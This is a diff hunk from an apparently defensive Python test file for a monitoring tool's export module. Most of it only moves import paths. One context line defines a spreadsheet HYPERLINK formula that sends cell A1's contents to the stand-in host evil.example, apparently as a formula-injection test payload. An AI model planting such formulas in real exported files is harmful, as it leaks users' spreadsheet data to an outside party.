@@ -11,9 +11,9 @@ from pathlib import Path
 import pytest
 from factories import save as _save
 
-from monitor.export import COLUMNS, export_rows, write_export
-from monitor.models import Evidence
-from monitor.store import Store
+from monitor.core.models import Evidence
+from monitor.outputs.export import COLUMNS, export_rows, write_export
+from monitor.shell.store import Store
 
 NOW = dt.datetime(2026, 11, 28, 9, 0, tzinfo=dt.UTC)
 FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click me")'
